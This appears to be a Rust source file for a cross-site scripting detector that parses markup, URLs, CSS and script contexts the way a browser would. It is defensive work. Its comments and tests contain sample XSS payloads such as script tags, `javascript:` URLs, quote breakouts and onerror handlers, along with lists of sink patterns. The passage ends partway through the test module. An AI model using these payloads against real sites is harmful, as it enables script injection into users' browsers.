//! Cross-site scripting: markup, URLs and script fragments that make a browser run code of
//! the sender's choosing once the value is placed in a page.
//!
//! Rich text is legitimate in APIs (CMS bodies, comments, descriptions), so the detector does
//! not react to markup as such: it reads the value the way a browser's tokenizer would and
//! asks what each piece would *do*.
//!
//! 1. **Markup.** Every `<` that opens a start tag (an ASCII letter, then a plausible tag
//!    name) is tokenised into its attributes with the browser's rules: separators are
//!    whitespace or `/`, values are `"`- or `'`-quoted or unquoted (a backtick is an ordinary
//!    character), names are case-insensitive. The tag is then judged: an `on*` event
//!    handler, a URL attribute holding a `javascript:`/`vbscript:`/`data:text/html` URL
//!    (control characters inside the scheme ignored, as browsers do), a `<script>` element
//!    that loads or holds code, CSS that runs code (`expression(`, `url(javascript:`,
//!    `behavior`, `@import` of a sheet not served over `https`), SVG animation of `href`,
//!    or an element that loads active content (`<object>`, `<embed>`, `<iframe srcdoc>`,
//!    `<base href>`, `<meta http-equiv=refresh>`).
//!    Quoted attribute values that contain markup are read again, to a bounded depth, which
//!    catches `srcdoc` documents and mutation tricks such as
//!    `<noscript><p title="</noscript><img src=x onerror=..>">`. Comments and raw-text
//!    elements are deliberately not honoured: the value may land in any context, and a
//!    payload is built to break out of the one it lands in.
//! 2. **Attribute context.** A value that closes the quoted attribute it lands in and adds
//!    a handler (`" autofocus onfocus=alert(1) x="`).
//! 3. **Script context.** A value that closes a JS string or expression and then calls code
//!    (`';alert(1)//`, `\";confirm(1);//`, `-alert(1)-`), `${..}` substitutions that call
//!    code, and `constructor.constructor(..)` chains.
//! 4. **URLs.** A value (a redirect or link parameter), a Markdown link target or a
//!    parameter inside a URL that is a `javascript:` URL with code after the colon.
//!
//! Precision choices:
//! - A quote counts as a breakout only when it is the *first* quote of its kind in the value:
//!   a payload closes a string the page opened, while code snippets and prose close the
//!   strings they opened themselves (`const s = 'hi'; alert(s)` is not a breakout).
//! - A bare `<script>` mention is reported only when code follows it, it has attributes
//!   (`src`, `type`, ...), or it follows a breakout (`"><script>`): in an HTML context even a
//!   bare tag opens a script element, but "Use <script> tags sparingly" runs nothing (its
//!   content is not valid script) and is common prose in developer-facing APIs.
//! - `<iframe>` with an `http(s)` source is a common rich-text embed (videos, maps) and is
//!   reported only after a breakout; `srcdoc` and script URLs are always reported.
//! - No-op script links (`javascript:void(0)`) and JSX handlers (`onClick={handler}`) in code
//!   snippets are not reported.
//!
//! Everything runs in linear time: the tag scanner consumes each byte once per depth level,
//! look-behinds and content windows are bounded, and every regex is anchored or run once.

use std::borrow::Cow;
use std::ops::Range;
use std::sync::LazyLock;

use memchr::{memchr, memchr_iter};
use regex::Regex;

use super::Match;
use crate::normalize;

/// How many times quoted attribute values holding markup are read again as markup.
const MAX_MARKUP_DEPTH: u8 = 2;
/// Attributes judged per tag (the rest are tokenised but not kept).
const MAX_ATTRIBUTES: usize = 64;
/// Bytes after `<script>` and `<style>` read as the element's content.
const CONTENT_WINDOW: usize = 512;
/// Bytes of a style sheet or `style` attribute normalised and inspected.
const CSS_WINDOW: usize = 4096;
/// Bytes after a `javascript:` scheme inspected for code.
const CODE_WINDOW: usize = 256;

pub fn detect(value: &str) -> Option<Match> {
    // Every rule needs markup, a scheme, a call or an assignment.
    if !value.bytes().any(|b| matches!(b, b'<' | b':' | b'(' | b'`' | b'=')) {
        return None;
    }
    if value.contains('<')
        && let Some(found) = scan_markup(value, 0, 0)
    {
        return Some(found);
    }
    attribute_breakout(value)
        .or_else(|| script_url(value))
        .or_else(|| script_breakout(value))
        .or_else(|| template_substitution(value))
        .or_else(|| constructor_chain(value))
}

fn regex(pattern: &str) -> Option<Regex> {
    Regex::new(pattern).ok()
}

/// Functions and objects that a script payload calls or reaches: the proof-of-concept
/// dialogs, code evaluation, navigation, the DOM and network sinks.
const SINK: &str = concat!(
    r"(?:(?:alert|prompt|confirm|eval|print|fetch|import|set(?:Timeout|Interval)|Function|execScript|atob|open|msgbox)\s*[(\x60]",
    r"|(?:document|window|self|top|parent|frames|globalThis|opener)\s*[.\[]",
    r"|(?:location|onerror|onload|innerHTML|outerHTML)\s*[=.]|constructor(?-u:\b)",
    r"|String\s*\.\s*fromCharCode|navigator\s*\.|XMLHttpRequest|(?:Image|WebSocket|EventSource)\s*\(",
    r"|Reflect\s*\.|jQuery|\$\s*\.\s*(?:getScript|globalEval|ajax|get|post)\s*\(|debugger(?-u:\b)|throw\s)",
);

// ---------------------------------------------------------------------------------------
// Markup
// ---------------------------------------------------------------------------------------

struct Attribute<'a> {
    name: &'a str,
    value: Option<&'a str>,
    /// Byte offset of the value in the scanned text.
    value_at: usize,
    quoted: bool,
}

struct Tag<'a> {
    name: &'a str,
    /// From `<` to after `>`, or to the end of the text when the tag is not closed.
    span: Range<usize>,
    attributes: Vec<Attribute<'a>>,
}

/// The text being scanned, with what the judgements need to know about all of it.
struct Markup<'a> {
    text: &'a str,
    /// Position of the first `"`, `'` and backtick in `text`.
    first_quotes: [Option<usize>; 3],
}

impl Markup<'_> {
    fn is_first_quote(&self, at: usize) -> bool {
        self.first_quotes.contains(&Some(at))
    }
}

fn is_html_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c')
}

fn scan_markup(text: &str, offset: usize, depth: u8) -> Option<Match> {
    let bytes = text.as_bytes();
    let markup = Markup { text, first_quotes: [b'"', b'\'', b'`'].map(|q| memchr(q, bytes)) };
    let mut pos = 0;
    while let Some(found) = bytes.get(pos..).and_then(|rest| memchr(b'<', rest)) {
        let lt = pos + found;
        let Some(tag) = parse_start_tag(text, lt) else {
            pos = lt + 1;
            continue;
        };
        if let Some(rule) = judge_tag(&markup, &tag) {
            return Some(Match::new(rule, offset + tag.span.start..offset + tag.span.end));
        }
        if depth < MAX_MARKUP_DEPTH {
            for attribute in tag.attributes.iter().filter(|attribute| attribute.quoted) {
                if let Some(value) = attribute.value
                    && value.contains('<')
                    && let Some(found) = scan_markup(value, offset + attribute.value_at, depth + 1)
                {
                    return Some(found);
                }
            }
        }
        pos = tag.span.end.max(lt + 1);
    }
    None
}

/// Tokenises the start tag whose `<` is at `lt`, as a browser would; `None` when the `<`
/// does not open a tag (`a < b`, `<3`, `<ana@example.com>`).
fn parse_start_tag(text: &str, lt: usize) -> Option<Tag<'_>> {
    let bytes = text.as_bytes();
    let name_start = lt + 1;
    if !bytes.get(name_start)?.is_ascii_alphabetic() {
        return None;
    }
    // Browsers accept any character in a tag name; real and custom elements use these, and
    // stopping at the first other one keeps `if (a<b) {..}` and `<user@host>` out.
    let mut at = name_start;
    while bytes.get(at).is_some_and(|&b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b':' | b'_')) {
        at += 1;
    }
    let name = text.get(name_start..at)?;
    if bytes.get(at).is_some_and(|&b| !(is_html_space(b) || matches!(b, b'/' | b'>'))) {
        return None;
    }
    let mut attributes = Vec::new();
    loop {
        while bytes.get(at).is_some_and(|&b| is_html_space(b) || b == b'/') {
            at += 1;
        }
        match bytes.get(at) {
            None => return Some(Tag { name, span: lt..at, attributes }),
            Some(b'>') => return Some(Tag { name, span: lt..at + 1, attributes }),
            Some(_) => {}
        }
        // The first character belongs to the name whatever it is (even `=`); the name ends
        // at an ASCII delimiter, so the slice ends on a character boundary.
        let name_start = at;
        at += 1;
        while bytes.get(at).is_some_and(|&b| !(is_html_space(b) || matches!(b, b'/' | b'>' | b'='))) {
            at += 1;
        }
        let attribute_name = text.get(name_start..at).unwrap_or_default();
        while bytes.get(at).is_some_and(|&b| is_html_space(b)) {
            at += 1;
        }
        let mut attribute = Attribute { name: attribute_name, value: None, value_at: at, quoted: false };
        if bytes.get(at) == Some(&b'=') {
            at += 1;
            while bytes.get(at).is_some_and(|&b| is_html_space(b)) {
                at += 1;
            }
            match bytes.get(at) {
                Some(&quote @ (b'"' | b'\'')) => {
                    let start = at + 1;
                    let rest = bytes.get(start..).unwrap_or_default();
                    let (len, next) = match memchr(quote, rest) {
                        Some(len) => (len, start + len + 1),
                        // An unclosed quote: read up to the next `>`, as lenient parsers do,
                        // rather than swallowing the rest of the value.
                        None => {
                            let len = memchr(b'>', rest).unwrap_or(rest.len());
                            (len, start + len)
                        }
                    };
                    attribute.value = text.get(start..start + len);
                    attribute.value_at = start;
                    attribute.quoted = true;
                    at = next;
                }
                _ => {
                    let start = at;
                    while bytes.get(at).is_some_and(|&b| !(is_html_space(b) || b == b'>')) {
                        at += 1;
                    }
                    attribute.value = text.get(start..at);
                    attribute.value_at = start;
                }
            }
        }
        if attributes.len() < MAX_ATTRIBUTES {
            attributes.push(attribute);
        }
    }
}

fn judge_tag(markup: &Markup<'_>, tag: &Tag<'_>) -> Option<&'static str> {
    let is = |name: &str| tag.name.eq_ignore_ascii_case(name);
    if tag.attributes.iter().any(is_event_handler) {
        return Some("xss.event_handler");
    }
    if is("script")
        && (!tag.attributes.is_empty()
            || script_holds_code(markup.text.get(tag.span.end..).unwrap_or_default())
            || follows_breakout(markup, tag.span.start))
    {
        return Some("xss.script_tag");
    }
    if tag.attributes.iter().any(|attribute| carries_script_url(tag.name, attribute)) {
        return Some("xss.js_url");
    }
    if (is("animate") || is("set")) && animates_link_or_handler(tag) {
        return Some("xss.svg_animate");
    }
    if styles_run_code(markup.text, tag) {
        return Some("xss.style_injection");
    }
    if loads_active_content(markup, tag) {
        return Some("xss.dangerous_tag");
    }
    None
}

/// `on*=` with a value. JSX handlers (`onClick={handler}`, camel case and braces) are code
/// snippets, not markup a browser would run.
fn is_event_handler(attribute: &Attribute<'_>) -> bool {
    let name = attribute.name.as_bytes();
    let handler_name = name.len() >= 5
        && name.get(..2).is_some_and(|on| on.eq_ignore_ascii_case(b"on"))
        && name.iter().skip(2).all(u8::is_ascii_alphabetic);
    let Some(value) = attribute.value else { return false };
    if !attribute.quoted && hides_handler(value) {
        return true;
    }
    let jsx = value.starts_with('{')
        && name.starts_with(b"on")
        && name.get(2).is_some_and(u8::is_ascii_uppercase)
        && name.get(3).is_some_and(u8::is_ascii_lowercase);
    handler_name && !jsx
}

/// An unquoted value that runs into a handler without a space (`<img/src=x/onerror=..>`):
/// browsers read it as one value, but filters and older parsers split it at the `/`, and no
/// legitimate value has that shape.
fn hides_handler(value: &str) -> bool {
    value.match_indices("/on").any(|(at, _)| {
        let name = value.get(at + 3..).unwrap_or_default();
        let letters = name.bytes().take_while(u8::is_ascii_alphabetic).count();
        letters >= 3 && name.as_bytes().get(letters) == Some(&b'=')
    })
}

/// Whether the content after `<script>` is code rather than prose ("Use <script> tags
/// sparingly"): a call (`alert(1)`, ``alert`1` ``) or an assignment (`onerror=alert`).
fn script_holds_code(after: &str) -> bool {
    static CODE: LazyLock<Option<Regex>> =
        LazyLock::new(|| regex(r"[0-9A-Za-z_$\])}][(\x60]|[0-9A-Za-z_$\]]\s*=\s*[^=\s]"));
    let content = head(after, CONTENT_WINDOW);
    let content = content.split('<').next().unwrap_or_default();
    // SVG script content is XML, where character references are decoded.
    decoded_forms(content).iter().any(|content| CODE.as_ref().is_some_and(|code| code.is_match(content)))
}

/// Whether the tag at `lt` follows text that closes an attribute the page opened (`">`,
/// with the first quote of its kind) or a comment or raw-text element (`-->`,
/// `</textarea>`, `</title>`): the value was built to escape the context it lands in.
fn follows_breakout(markup: &Markup<'_>, lt: usize) -> bool {
    const RAW_TEXT: &[&str] = &[
        "textarea", "title", "style", "script", "noscript", "template", "xmp", "iframe", "noembed",
        "noframes",
    ];
    let before = markup.text.get(..lt).unwrap_or_default().trim_end();
    let Some(inside) = before.strip_suffix('>') else { return false };
    let inside = inside.trim_end();
    let inside = inside.strip_suffix('/').unwrap_or(inside).trim_end();
    if inside.ends_with("--") {
        return true;
    }
    if inside.ends_with(['"', '\'', '`']) {
        return markup.is_first_quote(inside.len() - 1);
    }
    let last = tail(inside, 16);
    last.rfind("</").and_then(|at| last.get(at + 2..)).is_some_and(|name| {
        let name = name.trim_end();
        RAW_TEXT.iter().any(|raw| name.eq_ignore_ascii_case(raw))
    })
}

/// Attributes that browsers follow or fetch as URLs (`values`, `to` and `from` are SVG
/// animation targets).
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "background",
    "lowsrc",
    "dynsrc",
    "poster",
    "codebase",
    "code",
    "cite",
    "longdesc",
    "to",
    "from",
    "by",
    "values",
];

/// Elements that render a document from their URL, so an SVG data URL runs its scripts.
const DOCUMENT_LOADERS: &[&str] = &["iframe", "frame", "object", "embed", "use", "portal"];

fn carries_script_url(tag_name: &str, attribute: &Attribute<'_>) -> bool {
    let Some(value) = attribute.value else { return false };
    if !URL_ATTRIBUTES.iter().any(|name| attribute.name.eq_ignore_ascii_case(name)) {
        return false;
    }
    let renders_svg = DOCUMENT_LOADERS.iter().any(|name| tag_name.eq_ignore_ascii_case(name));
    if attribute.name.eq_ignore_ascii_case("values") {
        return value.split(';').any(|item| is_script_url(item, renders_svg));
    }
    is_script_url(value, renders_svg)
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Scheme {
    /// `javascript:` and its old alias `livescript:`.
    JavaScript,
    VbScript,
    Data,
}

fn scheme_named(letters: &[u8]) -> Option<Scheme> {
    match letters {
        b"javascript" | b"livescript" => Some(Scheme::JavaScript),
        b"vbscript" => Some(Scheme::VbScript),
        b"data" => Some(Scheme::Data),
        _ => None,
    }
}

/// The scheme an attribute URL starts with, read leniently as browsers do (leading spaces
/// and control characters dropped, tabs, newlines and other controls inside ignored, any
/// case), and the text after its colon.
fn leading_scheme(url: &str) -> Option<(Scheme, &str)> {
    let mut letters = [0u8; 10];
    let mut count = 0;
    for (at, ch) in url.char_indices() {
        if ch == ':' {
            let scheme = scheme_named(letters.get(..count)?)?;
            return Some((scheme, url.get(at + 1..).unwrap_or_default()));
        }
        if u32::from(ch) <= 0x20 || ch == '\u{7f}' {
            continue;
        }
        if !ch.is_ascii_alphabetic() {
            return None;
        }
        *letters.get_mut(count)? = ch.to_ascii_lowercase() as u8;
        count += 1;
    }
    None
}

/// A URL that runs script when followed or loaded, read after character references are
/// decoded as the browser decodes them in attribute values.
fn is_script_url(url: &str, renders_svg: bool) -> bool {
    let url = url.trim_start_matches(|ch: char| u32::from(ch) <= 0x20);
    decoded_forms(head(url, CODE_WINDOW)).iter().any(|url| match leading_scheme(url) {
        Some((Scheme::JavaScript, code)) => !is_noop_script(code),
        Some((Scheme::VbScript, code)) => !code.trim().is_empty(),
        Some((Scheme::Data, rest)) => is_active_media_type(rest, renders_svg),
        None => false,
    })
}

/// `data:` media types that a browser renders as a document or runs as script.
fn is_active_media_type(rest: &str, renders_svg: bool) -> bool {
    const ACTIVE: &[&str] = &[
        "text/html",
        "application/xhtml+xml",
        "text/xml",
        "application/xml",
        "text/javascript",
        "application/javascript",
        "application/x-javascript",
        "text/ecmascript",
    ];
    let media: String =
        head(rest, 64).chars().filter(|ch| u32::from(*ch) > 0x20).map(|ch| ch.to_ascii_lowercase()).collect();
    ACTIVE.iter().any(|active| media.starts_with(active))
        || (renders_svg && media.starts_with("image/svg+xml"))
}

/// Script links that do nothing (`javascript:void(0)`), common in old rich text.
fn is_noop_script(code: &str) -> bool {
    let compact: String =
        code.chars().filter(|ch| !ch.is_whitespace()).take(24).map(|ch| ch.to_ascii_lowercase()).collect();
    matches!(
        compact.trim_end_matches(';'),
        "" | "void(0)" | "void0" | "void(null)" | "returnfalse" | "false" | "undefined" | "//"
    )
}

/// SVG `<animate>`/`<set>` that rewrites a link or a handler (`attributeName=href`).
fn animates_link_or_handler(tag: &Tag<'_>) -> bool {
    tag.attributes.iter().filter(|attribute| attribute.name.eq_ignore_ascii_case("attributename")).any(
        |attribute| {
            let target = attribute.value.unwrap_or_default().trim();
            target.eq_ignore_ascii_case("href")
                || target.eq_ignore_ascii_case("xlink:href")
                || (target.len() > 4 && target.get(..2).is_some_and(|on| on.eq_ignore_ascii_case("on")))
        },
    )
}

/// CSS in a `style` attribute or a `<style>` element that runs code or pulls in a style
/// sheet.
fn styles_run_code(text: &str, tag: &Tag<'_>) -> bool {
    let in_attribute = tag
        .attributes
        .iter()
        .filter(|attribute| attribute.name.eq_ignore_ascii_case("style"))
        .filter_map(|attribute| attribute.value)
        .any(css_runs_code);
    in_attribute
        || (tag.name.eq_ignore_ascii_case("style")
            && css_runs_code(
                head(text.get(tag.span.end..).unwrap_or_default(), CSS_WINDOW)
                    .split('<')
                    .next()
                    .unwrap_or_default(),
            ))
}

/// Reads CSS as a browser does (comments dropped, `\65`-style escapes decoded, whitespace
/// and case ignored) and looks for constructs that run code or load a sheet.
fn css_runs_code(css: &str) -> bool {
    decoded_forms(head(css, CSS_WINDOW)).iter().any(|css| folded_css_runs_code(css))
}

fn folded_css_runs_code(css: &str) -> bool {
    let mut folded = String::with_capacity(css.len().min(CSS_WINDOW));
    let mut chars = head(css, CSS_WINDOW).chars().peekable();
    while let Some(ch) = chars.next() {
        match ch {
            '/' if chars.peek() == Some(&'*') => {
                chars.next();
                let mut previous = '\0';
                for inside in chars.by_ref() {
                    if previous == '*' && inside == '/' {
                        break;
                    }
                    previous = inside;
                }
            }
            '\\' => {
                let mut code = 0u32;
                let mut digits = 0;
                while digits < 6
                    && let Some(digit) = chars.peek().and_then(|next| next.to_digit(16))
                {
                    code = code * 16 + digit;
                    digits += 1;
                    chars.next();
                }
                if digits > 0 {
                    if chars.peek().is_some_and(|next| next.is_whitespace()) {
                        chars.next();
                    }
                    folded.extend(char::from_u32(code).map(|decoded| decoded.to_ascii_lowercase()));
                } else if let Some(escaped) = chars.next().filter(|escaped| *escaped != '\n') {
                    folded.push(escaped.to_ascii_lowercase());
                }
            }
            ch if ch.is_whitespace() || ch.is_control() => {}
            ch => folded.push(ch.to_ascii_lowercase()),
        }
    }
    const RUNS_CODE: &[&str] = &["expression(", "javascript:", "vbscript:", "-moz-binding"];
    RUNS_CODE.iter().any(|construct| folded.contains(construct))
        // IE's `behavior:url(..)`, not the standard `scroll-behavior`.
        || folded.match_indices("behavior:").any(|(at, _)| !folded.get(..at).unwrap_or_default().ends_with('-'))
        || folded
            .match_indices("@import")
            .any(|(at, found)| imports_untrusted_sheet(folded.get(at + found.len()..)))
}

/// `@import` of a sheet over plain HTTP, protocol-relative or from a script URL: the
/// classic way to pull in a sheet with `expression()` or `behavior`. Web fonts and CDN
/// sheets over `https://` are common in rich text and e-mail HTML and pass.
fn imports_untrusted_sheet(after: Option<&str>) -> bool {
    let target = after.unwrap_or_default();
    let target = target.strip_prefix("url(").unwrap_or(target);
    let target = target.trim_start_matches(['"', '\'']);
    !target.starts_with("https://")
}

/// Elements that load active content or change where the page's links and scripts point.
fn loads_active_content(markup: &Markup<'_>, tag: &Tag<'_>) -> bool {
    let is = |name: &str| tag.name.eq_ignore_ascii_case(name);
    let has = |name: &str| tag.attributes.iter().any(|attribute| attribute.name.eq_ignore_ascii_case(name));
    let value_of = |name: &str| {
        tag.attributes
            .iter()
            .find(|attribute| attribute.name.eq_ignore_ascii_case(name))
            .and_then(|attribute| attribute.value)
            .map(str::trim)
    };
    if is("iframe") || is("frame") {
        return has("srcdoc") || (has("src") && follows_breakout(markup, tag.span.start));
    }
    if is("object") || is("embed") || is("applet") {
        // Plugins: any configured instance is active content; a bare mention is prose.
        return !tag.attributes.is_empty();
    }
    if is("base") || is("portal") {
        return has("href") || has("src");
    }
    if is("meta") {
        return value_of("http-equiv").is_some_and(|equiv| {
            equiv.eq_ignore_ascii_case("refresh") || equiv.eq_ignore_ascii_case("set-cookie")
        });
    }
    if is("link") {
        return value_of("rel").is_some_and(|rel| rel.eq_ignore_ascii_case("import"));
    }
    false
}

// ---------------------------------------------------------------------------------------
// URLs outside markup
// ---------------------------------------------------------------------------------------

/// How the text before a scheme sets it apart.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Boundary {
    /// The value starts with the scheme (spaces and controls aside): a link or redirect.
    Start,
    /// After `=`, `?`, `&`, a quote, `(` (`url(`, Markdown `](`) or `,`: a parameter,
    /// attribute or link target.
    Delimiter,
    /// After whitespace in running text.
    Space,
}

/// A `javascript:` (or `vbscript:`, `data:text/html`) URL as a whole value, a Markdown link
/// target or a parameter: with code after the colon, so that prose such as "JavaScript: the
/// good parts" is left alone.
fn script_url(value: &str) -> Option<Match> {
    static CODE: LazyLock<Option<Regex>> = LazyLock::new(|| regex(r"[0-9A-Za-z_$\])}][(\x60]|[=\[]|//|/\*"));
    let code_like = |code: &str| CODE.as_ref().is_some_and(|re| re.is_match(head(code, CODE_WINDOW)));
    for colon in memchr_iter(b':', value.as_bytes()) {
        let Some((start, scheme)) = scheme_before(value, colon) else { continue };
        let Some(boundary) = boundary_before(value, start) else { continue };
        let rest = value.get(colon + 1..).unwrap_or_default();
        let dangerous = match (scheme, boundary) {
            (Scheme::JavaScript, Boundary::Space) => {
                !rest.starts_with(char::is_whitespace) && !is_noop_script(url_token(rest)) && code_like(rest)
            }
            (Scheme::JavaScript, _) => !is_noop_script(url_token(rest)) && code_like(rest),
            (Scheme::VbScript, Boundary::Start | Boundary::Delimiter) => !rest.trim().is_empty(),
            (Scheme::Data, Boundary::Start | Boundary::Delimiter) => is_active_media_type(rest, false),
            _ => false,
        };
        if dangerous {
            return Some(Match::new("xss.js_url", start..colon + 1 + head(rest, 64).len()));
        }
    }
    None
}

/// The URL text that starts `text` (bounded): up to a quote, markup or a space, without
/// the `)` that closes a Markdown link or CSS `url(`.
fn url_token(text: &str) -> &str {
    let text = head(text, CODE_WINDOW);
    // A newline may sit inside the URL (`javascript://%0Aalert(1)`); a space ends it.
    let end = text.find(['"', '\'', '`', '<', '>', ' ']);
    let mut token = text.get(..end.unwrap_or(text.len())).unwrap_or_default();
    let opened = token.matches('(').count();
    let mut closed = token.matches(')').count();
    while closed > opened
        && let Some(shorter) = token.strip_suffix(')')
    {
        token = shorter;
        closed -= 1;
    }
    token
}

/// The scheme ending at the `:` at `colon`, read backwards: letters, with tabs, newlines and
/// other control characters between them ignored as browsers do. Returns where it starts.
fn scheme_before(value: &str, colon: usize) -> Option<(usize, Scheme)> {
    let before = value.get(..colon)?;
    let mut letters = [0u8; 11];
    let mut starts = [0usize; 11];
    let mut count = 0;
    for (at, ch) in before.char_indices().rev().take(64) {
        if u32::from(ch) < 0x20 || ch == '\u{7f}' {
            continue;
        }
        if !ch.is_ascii_alphabetic() || count == letters.len() {
            break;
        }
        *letters.get_mut(count)? = ch.to_ascii_lowercase() as u8;
        *starts.get_mut(count)? = at;
        count += 1;
    }
    let mut read: Vec<u8> = letters.get(..count)?.to_vec();
    read.reverse();
    let scheme = scheme_named(&read)?;
    Some((*starts.get(count - 1)?, scheme))
}

fn boundary_before(value: &str, start: usize) -> Option<Boundary> {
    let before = value.get(..start)?;
    let mut skipped_space = false;
    for ch in before.chars().rev().take(64) {
        if u32::from(ch) <= 0x20 || ch.is_whitespace() {
            skipped_space = true;
            continue;
        }
        return match ch {
            '=' | '?' | '&' | '"' | '\'' | '`' | '(' | ',' => Some(Boundary::Delimiter),
            _ if skipped_space => Some(Boundary::Space),
            _ => None,
        };
    }
    Some(if before.len() > 64 { Boundary::Space } else { Boundary::Start })
}

// ---------------------------------------------------------------------------------------
// Attribute and script contexts
// ---------------------------------------------------------------------------------------

/// Where a context breakout may start: the first quote of each kind (a quote the page
/// opened, not one the value opened itself).
fn first_quote_positions(value: &str) -> impl Iterator<Item = usize> + '_ {
    [b'"', b'\'', b'`'].into_iter().filter_map(|quote| memchr(quote, value.as_bytes()))
}

/// A value that closes the attribute it lands in (or starts a new one in an unquoted
/// attribute) and adds an event handler, a script URL or code-running CSS.
fn attribute_breakout(value: &str) -> Option<Match> {
    static BREAKOUT: LazyLock<Option<Regex>> = LazyLock::new(|| {
        regex(concat!(
            r#"(?i)\A(?:['"]|[^\s'"<>=\x60]{0,64}[\s/])[\s/]*"#,
            // Up to four other attributes first (`autofocus`, `x=""`).
            r#"(?:[0-9a-z_:-]+(?:\s*=\s*(?:"[^"]{0,128}"|'[^']{0,128}'|[^\s>'"\x60]{1,128}))?[\s/]+){0,4}"#,
            r#"(?:on[a-z]{3,24}\s*=\s*['"\x60]?\s*[^\s>]{0,128}?[(\x60=]"#,
            r#"|style\s*=\s*['"]?[^'">]{0,256}?(?:expression\s*\(|javascript\s*:|(?-u:\b)behavior\s*:\s*url|-moz-binding)"#,
            r#"|(?:href|src|action|formaction|xlink:href|data)\s*=\s*['"\x60]?[\x00-\x20]*(?:javascript|vbscript)[\x00-\x20]*:)"#,
        ))
    });
    let re = BREAKOUT.as_ref()?;
    // Backticks delimit attributes only in old IE, and Markdown code spans use them.
    let quotes = [b'"', b'\''].into_iter().filter_map(|quote| memchr(quote, value.as_bytes()));
    std::iter::once(0).chain(quotes).find_map(|start| {
        let found = re.find(value.get(start..)?)?;
        Some(Match::new("xss.attribute_breakout", start + found.start()..start + found.end()))
    })
}

/// A value that closes a JS string (or ends a numeric expression) and calls code:
/// `';alert(1)//`, `"-confirm(1)-"`, `\";alert(1);//`, `'}));alert(1);//`, `1;alert(1)`.
fn script_breakout(value: &str) -> Option<Match> {
    static QUOTED: LazyLock<Option<Regex>> = LazyLock::new(|| {
        // Whitespace and block comments, which may separate any two tokens.
        const GAP: &str = r"(?:\s|/\*[^*]{0,64}\*/)*";
        regex(&format!(
            // The quote, closing brackets, then an operator or statement separator, then
            // unary operators or keywords before the sink.
            r#"(?i)\A['"\x60]{GAP}[)\]}}]{{0,4}}{GAP}(?:[;,+\-*/%|&^?:<>=!~]{{1,3}}|\n|in\s|instanceof\s){GAP}[(!~+\-\[\s]{{0,6}}(?:(?:void|typeof|new|delete|await)\s+)?{SINK}"#
        ))
    });
    static UNQUOTED: LazyLock<Option<Regex>> = LazyLock::new(|| {
        regex(concat!(
            r"(?i)\A\s*[0-9A-Za-z_$.]{0,32}\s*[)\]}]{0,4}\s*[;+\-*/%|&^]{1,3}",
            r"\s*[(!~+\-\[\s]{0,6}(?:(?:void|typeof|new)\s+)?(?:alert|prompt|confirm|eval)\s*[(\x60]",
        ))
    });
    for start in first_quote_positions(value) {
        if let Some(found) = QUOTED.as_ref().and_then(|re| re.find(value.get(start..)?)) {
            return Some(Match::new("xss.js_breakout", start + found.start()..start + found.end()));
        }
    }
    let found = UNQUOTED.as_ref()?.find(value)?;
    Some(Match::new("xss.js_breakout", found.range()))
}

/// `${..}` that calls code: runs when the value lands in a template literal.
fn template_substitution(value: &str) -> Option<Match> {
    static SUBSTITUTION: LazyLock<Option<Regex>> = LazyLock::new(|| {
        regex(concat!(
            r"(?i)\$\{\s*[(!~+\-\[\s]{0,6}",
            r"(?:(?:alert|prompt|confirm|eval|Function|import|fetch|set(?:Timeout|Interval))\s*[(\x60]",
            r"|constructor(?-u:\b)|document\s*\.\s*(?:cookie|domain|write|location)",
            r"|(?:window|top|self|parent|globalThis|this)\s*\[)",
        ))
    });
    if !value.contains("${") {
        return None;
    }
    let found = SUBSTITUTION.as_ref()?.find(value)?;
    Some(Match::new("xss.js_template", found.range()))
}

/// `constructor.constructor('code')()` and `x.constructor('code')`: reaching `Function`
/// through any object, the classic escape from expression sandboxes (AngularJS, Vue), and
/// the other AngularJS sandbox escapes.
fn constructor_chain(value: &str) -> Option<Match> {
    static CHAIN: LazyLock<Option<Regex>> = LazyLock::new(|| {
        regex(concat!(
            r#"constructor['"\x60]?\s*\]?\s*(?:\.|\[\s*['"\x60])\s*constructor(?-u:\b)"#,
            r#"|constructor\s*\(\s*['"\x60][^'"\x60]{0,256}?[(\x60=]"#,
            // AngularJS sandbox escapes: overwriting a prototype method, `$eval` of code.
            r"|constructor\s*\.\s*prototype\s*\.\s*\w+\s*=|\$eval\s*\(\s*['\x22\x60][^'\x22\x60]{0,256}?[(\x60=]",
        ))
    });
    if !value.contains("constructor") && !value.contains("$eval") {
        return None;
    }
    let found = CHAIN.as_ref()?.find(value)?;
    Some(Match::new("xss.js_constructor", found.range()))
}

// ---------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------

/// `text` and, when it holds character references, its decoded forms. The caller decodes
/// references in the whole value, but references can appear only after its Unicode folding
/// (full-width `＆＃１０６；` folds to `&#106;`), and browsers decode them again inside
/// attribute values and SVG script content. Callers pass bounded windows.
fn decoded_forms(text: &str) -> Vec<Cow<'_, str>> {
    if text.contains('&') { normalize::variants(text) } else { vec![Cow::Borrowed(text)] }
}

/// The first `max` bytes of `text`, cut back to a character boundary.
fn head(text: &str, max: usize) -> &str {
    let mut end = max.min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(..end).unwrap_or_default()
}

/// The last `max` bytes of `text`, cut forward to a character boundary.
fn tail(text: &str, max: usize) -> &str {
    let mut start = text.len().saturating_sub(max);
    while !text.is_char_boundary(start) {
        start += 1;
    }
    text.get(start..).unwrap_or_default()
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn rule(value: &str) -> Option<&'static str> {
        detect(value).map(|found| found.rule)
    }

    fn expect_rules(cases: &[(&str, &str)]) {
        crate::detectors::test_support::expect_rules(detect, cases);
    }

    fn expect_rule(expected: &str, values: &[&str]) {
        expect_rules(&values.iter().map(|value| (*value, expected)).collect::<Vec<_>>());
    }

    fn expect_clean(values: &[&str]) {
        crate::detectors::test_support::expect_clean(detect, values);
    }

    #[test]
    fn every_regex_rule_fires() {
        // A pattern that failed to compile would silently disable its rule.
        expect_rules(&[
            ("<script>alert(1)</script>", "xss.script_tag"),
            ("javascript:alert(1)", "xss.js_url"),
            ("\" onfocus=alert(1) x=\"", "xss.attribute_breakout"),
            ("';alert(1)//", "xss.js_breakout"),
            ("1;alert(1)", "xss.js_breakout"),
